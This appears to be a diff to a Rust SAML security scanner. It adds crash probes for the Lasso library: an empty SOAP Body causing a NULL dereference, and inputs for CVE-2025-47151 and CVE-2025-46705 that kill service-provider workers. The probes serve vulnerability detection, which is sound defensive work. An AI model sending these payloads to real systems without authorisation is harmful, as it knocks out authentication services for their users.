@@ -799,6 +799,85 @@ pub fn manifest_device(f: &Forge) -> Result<Burden, Skip> {
     })
 }
 
+/// The SOAP 1.1 envelope namespace (Lasso unwraps a message in one before reading it).
+const SOAP11_ENVELOPE_NS: &str = "http://schemas.xmlsoap.org/soap/envelope/";
+
+/// A burden read as a crash: answered at all (quickly, any status) it passes; every round
+/// unanswered (the connection closed) is `vulnerable`. The yardstick is the same message but
+/// for the one part that reaches the crash.
+fn crash_probe(burden: String, yardstick: String, yardstick_is: &'static str) -> Burden {
+    Burden {
+        encoded: encoded(&burden),
+        shown: burden,
+        yardstick: encoded(yardstick),
+        yardstick_is,
+        ratio: SAME_SIZE_RATIO,
+        floor: BURDEN_FLOOR,
+        // Nothing here costs work: only whether the SP answers counts.
+        ignorable: true,
+        by_redirect: false,
+    }
+}
+
+/// A SOAP 1.1 envelope whose Body holds no element, as `SAMLResponse`: Lasso (mod_auth_mellon,
+/// LemonLDAP::NG) unwraps SOAP before reading a message and hands the Body's first element,
+/// none, to its node reader, which reads its name (a NULL dereference, the worker dies).
+/// Yardstick: the IdP's own response inside the same envelope's Body.
+pub fn soap_empty_body(f: &Forge) -> Result<Burden, Skip> {
+    let envelope = |body: &str| {
+        format!("<s:Envelope xmlns:s=\"{SOAP11_ENVELOPE_NS}\"><s:Body>{body}</s:Body></s:Envelope>")
+    };
+    let seed = f.seed.trim_start_matches(|c| c != '<');
+    let seed = seed.strip_prefix("<?xml").map_or(seed, |rest| {
+        rest.find("?>").map_or(seed, |end| &rest[end + 2..])
+    });
+    Ok(crash_probe(
+        envelope(""),
+        envelope(seed),
+        "the IdP's own response inside the same envelope",
+    ))
+}
+
+/// The IdP's response with an attribute named `any_attributes`, then a namespaced one, on the
+/// first claim's AttributeValue (CVE-2025-47151): Lasso before 2.9.0 matched the name to its
+/// private hash table of foreign attributes, stored the string in its place, and inserted the
+/// next attribute through it (a call through a pointer read from the string: the worker dies).
+/// Yardstick: the same attribute named `any_attributez`.
+pub fn any_attributes(f: &Forge) -> Result<Burden, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let value = doc
+        .tree
+        .descendants()
+        .find(|n| n.has_tag_name((ASSERTION_NS, "AttributeValue")))
+        .ok_or_else(|| {
+            Skip::NotApplicable("the response carries no claim to put the attribute on".into())
+        })?;
+    let name_end = value.range().start + 1 + bytes::qualified_name(doc.src, value).len();
+    let with = |name: &str| {
+        let attributes = format!(" {name}=\"{}\" xmlns:x=\"urn:x\" x:y=\"1\"", "A".repeat(96));
+        bytes::splice(doc.src, vec![bytes::insert(name_end, attributes)])
+    };
+    Ok(crash_probe(
+        with("any_attributes"),
+        with("any_attributez"),
+        "the same attribute named any_attributez",
+    ))
+}
+
+/// The IdP's response with a CDATA section as the Response's first child (CVE-2025-46705):
+/// Lasso before 2.9.0 met a node type its reader did not expect among a message's elements
+/// and reached `g_assert_not_reached()` (abort: the worker dies). Yardstick: a comment there.
+pub fn cdata_child(f: &Forge) -> Result<Burden, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let at = bytes::after_start_tag(doc.src, doc.tree.root_element());
+    let with = |node: &str| bytes::splice(doc.src, vec![bytes::insert(at, node)]);
+    Ok(crash_probe(
+        with("<![CDATA[x]]>"),
+        with("<!--x-->"),
+        "the same response with a comment there",
+    ))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
